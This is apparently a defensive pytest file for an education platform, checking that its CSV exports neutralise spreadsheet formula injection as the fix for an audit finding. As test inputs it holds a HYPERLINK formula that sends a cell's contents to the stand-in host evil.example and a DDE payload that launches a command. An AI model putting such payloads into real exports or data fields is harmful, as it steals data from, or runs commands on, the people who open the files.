"""Finding 4 (medium): CSV formula injection.

A registry name such as `=HYPERLINK(...)` went as it was into every CSV the platform writes; a
school head or a collectivité opening the file in a spreadsheet would run it. Every CSV now goes
through `socle.core.csv_safe`, which prefixes such cells with `'` (OWASP). Each export path is
driven for real: the OneRoster command, the open-data export, the steering CSV downloads, the GAR
assignment counts; and a source scan keeps new CSV writers from bypassing the shared one."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from django.core.management import call_command
from django.test import Client

from socle.pilotage import services as pilotage
from socle.referentiel import models as rm
from tests.pilotage.collecte.conftest import client_for, steering  # noqa: F401 - fixtures
from tests.ressources.gar.conftest import distributors, subscribe  # noqa: F401 - fixtures

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Voir la fiche")'
NEUTRALISED = "'" + FORMULA
SRC = Path(__file__).resolve().parents[2] / "src" / "socle"


def _rows(text: str, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter))


def test_oneroster_export_neutralises_a_registry_name(db, tmp_path):
    from tests.echanges.world import COLLEGE_UAI, build_world

    build_world()
    rm.Etablissement.objects.filter(uai=COLLEGE_UAI).update(name=FORMULA)
    call_command("oneroster", "export", str(tmp_path / "out"), stdout=io.StringIO())
    orgs = _rows((tmp_path / "out" / "orgs.csv").read_text(encoding="utf-8"), ",")
    names = [row[orgs[0].index("name")] for row in orgs[1:]]
    assert NEUTRALISED in names and FORMULA not in names
    # Text that merely looks like a number is left alone (dates, codes).
    assert any(row[orgs[0].index("identifier")] == COLLEGE_UAI for row in orgs[1:])


def test_open_data_export_neutralises_text_and_keeps_numbers(db, tmp_path):
    from socle.pilotage.models import IndicatorValue
    from socle.pilotage.opendata import export as export_module

    region = rm.RegionAcademique.objects.create(code="53", name="Bretagne")
    academie = rm.Academie.objects.create(code="14", name="Rennes", region=region)
    rm.Departement.objects.create(code="35", name=FORMULA, academie=academie)
    pilotage.sync_catalogue()
    for level, code in (("departement", "35"), ("academie", "14"), ("region", "53"), ("nation", "FR")):
        IndicatorValue.objects.create(
            indicator_code="computers_per_100_pupils", version=1, vintage="2025-2026", level=level,
            territory_code=code, numerator=250, denominator=1000, value=25.0, schools_with_data=3,
            schools_in_scope=4, coverage=0.75, persons=1000,
        )  # fmt: skip
    export_module.export(tmp_path / "od", vintages=["2025-2026"], threshold=10)
    rows = list(
        csv.DictReader(
            (tmp_path / "od" / "indicateurs-territoriaux.csv").open(encoding="utf-8", newline=""),
            delimiter=";",
        )
    )
    labels = {row["libelle_territoire"] for row in rows}
    assert NEUTRALISED in labels and FORMULA not in labels
    departement = next(row for row in rows if row["code_territoire"] == "35")
    assert (departement["numerateur"], departement["denominateur"], departement["valeur"]) == (
        "250",
        "1000",
        "25.0",
    )


def test_steering_csv_download_neutralises_a_school_name(steering, client_for):  # noqa: F811
    college = steering.schools["college"]
    rm.Etablissement.objects.filter(pk=college.pk).update(name=FORMULA)
    client = client_for(steering.user("departement"))
    # The officer's default view: the collèges of the département, named in the table.
    assert college.uai in {row["code"] for row in client.get("/pilotage/").context["children"]}
    response = client.get("/pilotage/export/children.csv")
    assert response.status_code == 200
    rows = _rows(response.content.decode("utf-8"), ";")
    labels = [row[rows[0].index("label")] for row in rows[1:]]
    assert f"{NEUTRALISED} ({college.uai})" in labels
    assert not any(label.startswith("=") for label in labels)


def test_gar_assignment_counts_neutralise_what_a_distributor_sent(world, distributors):  # noqa: F811
    distributor, token = distributors["EDMATHS"]
    subscription = subscribe(distributor, "ark:/99999/maths-cas", world.schools["college"].uai)
    subscription.project_code = "@SUM(1+1)*cmd|' /C calc'!A0"
    subscription.save()
    response = Client(headers={"Authorization": f"Bearer {token}"}).get(
        "/abonnements-ws/affectations/affectations.csv"
    )
    assert response.status_code == 200
    rows = _rows(response.content.decode("utf-8"), ";")
    assert rows[1][2] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert rows[1][4:] == ["0", "0", "0", "0"]  # counts stay numbers


# Streams that are not files for people: COPY into PostgreSQL (pyarrow), and the synthetic copy
# of the ministry's raw Annuaire file that the importer's tests and benchmarks read back.
EXEMPT = {
    "pilotage/engines/postgres.py": "COPY … FROM STDIN into the engine's own table",
    "referentiel/importers/annuaire_synthetic.py": "a synthetic input file in the ministry's raw format",
}
# The standard library's writers, pyarrow's (pacsv.write_csv), pandas' and polars' (.to_csv, .write_csv).
WRITERS = re.compile(r"csv\.(writer|DictWriter|write_csv)\(|\.(to_csv|write_csv)\(")


def test_every_csv_writer_of_the_platform_is_the_shared_one():
    offenders = []
    for path in SRC.rglob("*.py"):
        relative = path.relative_to(SRC).as_posix()
        if relative == "core/csv_safe.py" or relative in EXEMPT or "/migrations/" in relative:
            continue
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
            if WRITERS.search(line) and not line.lstrip().startswith(("def ", "#")):
                offenders.append(f"{relative}:{number}: {line.strip()}")
    assert offenders == [], "write CSV with socle.core.csv_safe.writer:\n" + "\n".join(offenders)
